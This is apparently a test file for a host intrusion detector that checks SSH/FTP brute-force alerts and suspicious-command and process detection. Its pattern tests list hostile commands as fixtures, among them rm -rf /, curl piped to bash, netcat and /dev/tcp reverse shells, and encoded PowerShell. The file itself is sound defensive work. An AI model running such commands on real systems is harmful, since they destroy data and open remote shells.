import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import type { Alert } from '../../../src/model/alert.js';
import { AlertBook } from '../../../src/engine/alerts/alert-book.js';
import { AuthBruteForceDetector } from '../../../src/engine/detectors/auth-log/auth-brute-force-detector.js';
import { SuspiciousCommandDetector } from '../../../src/engine/detectors/auth-log/suspicious-command-detector.js';
import { BUILTIN_COMMAND_PATTERNS, compileCommandPatterns, matchCommand } from '../../../src/engine/detectors/host/suspicious-commands.js';
import { SuspiciousProcessDetector } from '../../../src/engine/detectors/host/suspicious-process-detector.js';
import { newAlert } from '../../../src/engine/detectors/new-alert.js';
import { hasNestedQuantifier } from '../../../src/engine/detectors/signatures/regex-safety.js';
import { parseAuthEvent, type AuthFailure } from '../../../src/engine/logs/auth-events.js';
import { parseLogLine } from '../../../src/engine/logs/log-line.js';
import { recordingContext } from '../../support/recording-context.js';

const FIXTURES = new URL('../../../fixtures/auth/', import.meta.url).pathname;
const S = 1e6;
const T0 = Date.UTC(2026, 10, 21, 22, 0, 0) * 1000;

function failure(source: string, user: string, port: number | null = null, weight: AuthFailure['weight'] = 'attempt', what = 'failed_password'): AuthFailure {
  return { kind: 'failure', service: 'ssh', weight, source, port, user, what, ...(what === 'invalid_user' ? { firstAttempt: true } : {}) };
}

test('five failures in the window raise one SSH_BRUTE_FORCE with the usernames; later ones update it', () => {
  const { ctx, raised, changed } = recordingContext();
  const d = new AuthBruteForceDetector({ failures: 5, windowSeconds: 600 }, ctx);
  const users = ['root', 'admin', 'oracle', 'test'];
  for (let i = 0; i < 4; i++) d.onFailure(failure('203.0.113.9', users[i]!, 40000 + i), T0 + i * S);
  assert.equal(raised.length, 0, 'four failures are not enough');
  d.onFailure(failure('203.0.113.9', 'root', 40010), T0 + 10 * S);
  assert.equal(raised.length, 1);
  const a = raised[0]!;
  assert.equal(a.attack_type, 'SSH_BRUTE_FORCE');
  assert.equal(a.attacker_ip, '203.0.113.9');
  assert.equal(a.timestamp, new Date((T0 + 10 * S) / 1000).toISOString(), 'alert time is the log line time');
  assert.deepEqual(a.attack_details.usernames, ['root', 'admin', 'oracle', 'test']);
  assert.equal(a.attack_details.source, 'auth_log');
  assert.equal(a.attack_details.auth_failures, 5);
  assert.equal(a.duration, 10);
  d.onFailure(failure('203.0.113.9', 'guest', 40011), T0 + 11 * S);
  assert.equal(raised.length, 1, 'no second alert');
  assert.ok(changed.includes(a));
  assert.deepEqual(a.attack_details.usernames, ['root', 'admin', 'oracle', 'test', 'guest']);
  assert.equal(a.packet_count, 6);
});

test('failures spread wider than the window raise nothing', () => {
  const { ctx, raised } = recordingContext();
  const d = new AuthBruteForceDetector({ failures: 5, windowSeconds: 600 }, ctx);
  for (let i = 0; i < 20; i++) d.onFailure(failure('198.51.100.1', 'root', 50000 + i), T0 + i * 200 * S);
  assert.equal(raised.length, 0);
});

test('the username list is bounded; the rest is counted', () => {
  const { ctx, raised } = recordingContext();
  const d = new AuthBruteForceDetector({ failures: 2, windowSeconds: 600, maxUsernames: 3 }, ctx);
  for (let i = 0; i < 10; i++) d.onFailure(failure('198.51.100.2', `user${i}`, 1000 + i), T0 + i * S);
  assert.deepEqual(raised[0]!.attack_details.usernames, ['user0', 'user1', 'user2']);
  assert.equal(raised[0]!.attack_details.usernames_dropped, 7);
});

test('one failed connection counts once: Invalid user + Failed password + closed [preauth] on one port', () => {
  // Two passwords on 5555, one connection closed without a password on 5556.
  const { ctx: c2, raised } = recordingContext();
  const d2 = new AuthBruteForceDetector({ failures: 3, windowSeconds: 600 }, c2);
  for (const [w, what, port] of [['connection', 'invalid_user', 5555], ['attempt', 'x', 5555], ['attempt', 'x', 5555], ['connection', 'closed_preauth', 5555], ['connection', 'closed_preauth', 5556]] as const) d2.onFailure(failure('192.0.2.1', 'admin', port, w, what), T0);
  assert.equal(raised.length, 1);
  assert.equal(raised[0]!.attack_details.auth_failures, 3);
});

test('aggressive-mode lines count only with mode aggressive (also after a reload); otherwise they add the user name', () => {
  const probe = (i: number): AuthFailure => ({ ...failure('198.51.100.7', `key${i}`, 7000 + i, 'connection', 'closed_preauth'), mode: 'aggressive' });
  const { ctx, raised } = recordingContext();
  const d = new AuthBruteForceDetector({ failures: 3, windowSeconds: 600, mode: 'normal' }, ctx);
  for (let i = 0; i < 5; i++) d.onFailure(probe(i), T0 + i * S);
  assert.equal(raised.length, 0, 'normal mode: probes are not failed logins');
  d.reconfigure({ failures: 3, windowSeconds: 600, mode: 'aggressive' });
  for (let i = 5; i < 8; i++) d.onFailure(probe(i), T0 + i * S);
  assert.equal(raised.length, 1);
  assert.equal(raised[0]!.attack_details.auth_failures, 3);
  assert.deepEqual(raised[0]!.attack_details.usernames, ['key0', 'key1', 'key2', 'key3', 'key4', 'key5', 'key6', 'key7']);
});

test('one connection is one daemon process: Invalid user + two Failed + Disconnecting on sshd[pid] count two', () => {
  const { ctx, raised } = recordingContext();
  const d = new AuthBruteForceDetector({ failures: 2, windowSeconds: 600 }, ctx);
  const on = (ev: AuthFailure): AuthFailure => ({ ...ev, connection: 'sshd[4242]' });
  d.onFailure(on(failure('192.0.2.9', 'admin', 5000, 'connection', 'invalid_user')), T0);
  d.onFailure(on(failure('192.0.2.9', 'admin', 5000)), T0 + S);
  assert.equal(raised.length, 0, 'the Failed line of the first attempt is the Invalid user line');
  d.onFailure(on(failure('192.0.2.9', 'admin', 5000)), T0 + 2 * S);
  // "Disconnecting: Too many authentication failures" has no port: the process ties it to the connection.
  d.onFailure(on(failure('192.0.2.9', 'admin', null, 'connection', 'too_many_failures')), T0 + 3 * S);
  assert.equal(raised.length, 1);
  assert.equal(raised[0]!.attack_details.auth_failures, 2);
});

test('FTP: a PAM failure and the daemon line right after it are one attempt; either alone counts', () => {
  const ftp = (what: string): AuthFailure => ({ kind: 'failure', service: 'ftp', weight: 'attempt', source: '203.0.113.5', port: null, user: 'bob', what });
  const run = (whats: string[], gapMicros = 0.1 * S) => {
    const { ctx, raised } = recordingContext();
    const d = new AuthBruteForceDetector({ failures: 1, windowSeconds: 600 }, ctx);
    whats.forEach((w, i) => d.onFailure(ftp(w), T0 + i * gapMicros));
    // The alert raised at the first failure carries the running count.
    return raised[0]!.attack_details.auth_failures;
  };
  assert.equal(run(['pam_failure', 'vsftpd_fail_login', 'pam_failure', 'vsftpd_fail_login']), 2, 'journald: both lines of each attempt');
  assert.equal(run(['pam_failure', 'pam_failure', 'pam_failure']), 3, 'auth.log: PAM lines only');
  assert.equal(run(['vsftpd_fail_login', 'vsftpd_fail_login']), 2, 'vsftpd.log: own lines only');
  assert.equal(run(['pam_failure', 'vsftpd_fail_login'], 30 * S), 2, 'a daemon line long after a PAM line is another attempt');
});

test('user names in alerts are escaped: control characters and bidi overrides cannot reach an output', () => {
  const { ctx, raised } = recordingContext();
  const d = new AuthBruteForceDetector({ failures: 1, windowSeconds: 600 }, ctx);
  d.onFailure(failure('198.51.100.44', 'ro\u001b[2Jot\u202e\u009b31m'), T0);
  const [name] = raised[0]!.attack_details.usernames as string[];
  assert.ok(!/[\u0000-\u001f\u007f-\u009f\u202a-\u202e]/.test(name!), JSON.stringify(name));
  assert.match(name!, /^ro.*ot/);
});

test('over the real sshd -E fixture: one alert for the attacker with every targeted user', () => {
  const { ctx, raised } = recordingContext();
  const d = new AuthBruteForceDetector({ failures: 5, windowSeconds: 600 }, ctx);
  const lines = readFileSync(FIXTURES + 'sshd-e.log', 'utf8').split('\n');
  lines.forEach((l, i) => {
    const ev = parseAuthEvent(parseLogLine(l, T0 + i * S));
    if (ev?.kind === 'failure') d.onFailure(ev, T0 + i * S);
  });
  assert.equal(raised.length, 1);
  assert.equal(raised[0]!.attacker_ip, '10.79.0.1');
  assert.deepEqual([...(raised[0]!.attack_details.usernames as string[])].sort(), ['admin', 'oracle', 'root', 'test']);
});

test('joins the packet detector\'s alert for the same attacker instead of raising a second', () => {
  const seen: [string, Alert][] = [];
  const book = new AlertBook((a, kind) => seen.push([kind, a]), 0);
  const { ctx } = recordingContext();
  ctx.raise = (a, now) => book.raise(a, now);
  ctx.changed = (a) => book.changed(a);
  ctx.find = (t, ip) => book.find(t, ip);
  const packetAlert = newAlert(ctx, { attackType: 'SSH_BRUTE_FORCE', severity: 'high', attacker: '10.79.0.1', nowMicros: T0, protocol: 'tcp', service: 'ssh', details: { attempts: 9 } });
  packetAlert.packet_count = 9;
  book.raise(packetAlert, T0);
  const d = new AuthBruteForceDetector({ failures: 5, windowSeconds: 600 }, ctx);
  for (let i = 0; i < 6; i++) d.onFailure(failure('10.79.0.1', i % 2 ? 'root' : 'admin', 6000 + i), T0 + i * S);
  book.flush(T0 + 10 * S);
  assert.equal(seen.filter(([k]) => k === 'new').length, 1, 'one alert');
  assert.equal(book.find('SSH_BRUTE_FORCE', '10.79.0.1'), packetAlert);
  assert.deepEqual(packetAlert.attack_details.usernames, ['admin', 'root']);
  assert.equal(packetAlert.attack_details.source, 'packets+auth_log');
  assert.equal(packetAlert.packet_count, 9, 'the packet detector keeps its own counts');
  assert.ok(seen.some(([k, a]) => k === 'update' && a === packetAlert));
});

test('built-in command patterns: the listed commands match, everyday commands do not, no nested quantifiers', () => {
  for (const p of BUILTIN_COMMAND_PATTERNS) assert.equal(hasNestedQuantifier((p.regex as RegExp).source), false, p.name);
  const hits: [string, string][] = [
    ['/bin/rm -rf /', 'rm_rf'],
    ['rm -fr --no-preserve-root /', 'rm_rf'],
    ['chmod 777 /etc/shadow', 'chmod_777'],
    ['chmod -R 0777 /var/www', 'chmod_777'],
    ['curl -s http://x.example/i.sh | bash', 'download_piped_to_shell'],
    ['wget -qO- http://x.example/a | sudo sh', 'download_piped_to_shell'],
    ['nc -e /bin/sh 10.0.0.1 4444', 'netcat_exec'],
    ['ncat --sh-exec x -c /bin/bash 1.2.3.4 9', 'netcat_exec'],
    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'reverse_shell_dev_tcp'],
    ['echo aGVsbG8= | base64 -d | bash', 'base64_piped_to_shell'],
    ['powershell.exe -NoP -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA', 'powershell_encoded'],
    ['python3 -c "import socket,subprocess,os;s=socket.socket()"', 'python_socket'],
    ['perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,0)\'', 'perl_socket'],
    ['mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 1234 > /tmp/f', 'mkfifo_netcat'],
  ];
  for (const [cmd, name] of hits) assert.equal(matchCommand(BUILTIN_COMMAND_PATTERNS, cmd)?.name, name, cmd);
  for (const ok of ['rm -rf ./build', 'rm -f /tmp/x', 'chmod 755 /usr/local/bin/x', 'curl -O https://example.org/file.tgz', 'nc -zv host 22', 'base64 -d key.b64 > key', 'python3 -c "print(1)"', 'ls -l /tmp', '/usr/bin/apt-get update']) {
    assert.equal(matchCommand(BUILTIN_COMMAND_PATTERNS, ok), null, ok);
  }
});

test('config patterns: compiled case-insensitive; a bad one is one clear error', () => {
  const p = compileCommandPatterns(['\\bshred\\s+-u']);
  assert.equal(matchCommand(p, 'SHRED -u /var/log/auth.log')?.name, 'custom_1');
  assert.throws(() => compileCommandPatterns(['ok', '(unclosed']), /^Error: pattern 2 \("\(unclosed"\) is not a pattern the linear-time engine \(RE2\) accepts: missing \)/);
  // (a+)+b is safe in RE2: accepted, and linear.
  assert.equal(matchCommand(compileCommandPatterns(['(a+)+b']), `${'a'.repeat(5000)}!`), null);
});

test('SUSPICIOUS_COMMAND from a sudo line: one alert per user and pattern, then updates', () => {
  const { ctx, raised, changed } = recordingContext();
  const d = new SuspiciousCommandDetector(BUILTIN_COMMAND_PATTERNS, ctx);
  d.onCommand({ kind: 'command', program: 'sudo', user: 'mallory', runAs: 'root', command: '/bin/chmod 777 /etc/passwd' }, T0);
  d.onCommand({ kind: 'command', program: 'sudo', user: 'mallory', runAs: 'root', command: '/bin/chmod 777 /etc/shadow' }, T0 + S);
  d.onCommand({ kind: 'command', program: 'sudo', user: 'mallory', runAs: 'root', command: '/bin/ls' }, T0 + 2 * S);
  assert.equal(raised.length, 1);
  const a = raised[0]!;
  assert.equal(a.attack_type, 'SUSPICIOUS_COMMAND');
  assert.equal(a.attack_details.pattern, 'chmod_777');
  assert.equal(a.attack_details.user, 'mallory');
  assert.equal(a.attack_details.count, 2);
  assert.equal(a.attack_details.command, '/bin/chmod 777 /etc/shadow');
  assert.equal(a.attacker_ip, '127.0.0.1', 'local activity names loopback, which is never blocked');
  assert.ok(changed.includes(a));
  // The command is the user's text: a terminal escape in it arrives escaped.
  d.onCommand({ kind: 'command', program: 'sudo', user: 'eve\u009b', runAs: 'root', command: '/bin/chmod 777 /srv\u001b]52;c;AAAA\u0007' }, T0 + 3 * S);
  const e = raised[1]!;
  assert.ok(!/[\u0000-\u001f\u007f-\u009f]/.test(`${e.attack_details.command}${e.attack_details.user}`), JSON.stringify(e.attack_details));
  assert.match(String(e.attack_details.command), /^\/bin\/chmod 777 \/srv/);
});

test('SUSPICIOUS_PROCESS: suspicious command line at once; CPU only when sustained; rate-limited; raw text kept', () => {
  const { ctx, raised } = recordingContext();
  const d = new SuspiciousProcessDetector({ cpuPercent: 80, sustainedSeconds: 10, maxAlertsPerMinute: 3, ticksPerSecond: 100 }, BUILTIN_COMMAND_PATTERNS, ctx);
  const evil = { pid: 42, name: 'nc\u001b[2J', cmdline: 'nc -e /bin/sh 127.0.0.1 9 30', cpuTicks: 0 };
  d.onSample([evil, { pid: 7, name: 'spin', cmdline: 'spin', cpuTicks: 0 }], T0);
  assert.equal(raised.length, 1);
  assert.equal(raised[0]!.attack_details.reason, 'suspicious_cmdline');
  assert.equal(raised[0]!.process, 'nc\u001b[2J', 'raw: the UI sanitizes');
  // spin uses a full core: 500 ticks per 5 s.
  d.onSample([evil, { pid: 7, name: 'spin', cmdline: 'spin', cpuTicks: 500 }], T0 + 5 * S);
  assert.equal(raised.length, 1, 'not sustained yet');
  d.onSample([evil, { pid: 7, name: 'spin', cmdline: 'spin', cpuTicks: 1000 }], T0 + 10 * S);
  assert.equal(raised.length, 2);
  assert.equal(raised[1]!.attack_details.reason, 'high_cpu');
  assert.equal(raised[1]!.attack_details.cpu_percent, 100);
  d.onSample([evil, { pid: 7, name: 'spin', cmdline: 'spin', cpuTicks: 1500 }], T0 + 15 * S);
  assert.equal(raised.length, 2, 'one alert per process and reason');
  const many = Array.from({ length: 20 }, (_, i) => ({ pid: 100 + i, name: 'x', cmdline: `bash -i >& /dev/tcp/10.0.0.${i}/9 0>&1`, cpuTicks: 0 }));
  d.onSample(many, T0 + 20 * S);
  assert.equal(raised.length, 3, 'three per minute');
  assert.equal(d.rateLimited, 19);
});
